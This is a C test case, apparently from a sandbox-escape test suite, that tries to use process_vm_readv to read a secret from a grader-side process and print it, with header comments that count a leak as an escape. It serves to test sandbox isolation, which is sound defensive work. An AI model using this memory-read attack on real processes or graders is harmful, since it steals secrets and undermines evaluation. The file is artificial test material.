// attack: process_vm_read
// flags: --no-fork --no-network --clean-env --cpu 5 --mem 256
// setup: victim
// evidence: process_vm_readv copies the secret out of a grader-side process (same uid) and prints it
// escaped-if: secret_leaked
#include "attack.h"
#include <sys/uio.h>

int main(int argc, char **argv)
{
	attack_init(argc, argv);
	unsigned long sa, fa;
	pid_t v = arg_long("victim");
	if (read_victim_addrs(&sa, &fa))
		return 2;
	char buf[257] = { 0 };
	struct iovec l = { buf, 256 }, r = { (void *)sa, 256 };
	ssize_t n = process_vm_readv(v, &l, 1, &r, 1, 0);
	if (n < 0) {
		say("process_vm_readv: %s\n", strerror(errno));
		return 1;
	}
	say("READ: %s\n", buf);
	return 0;
}
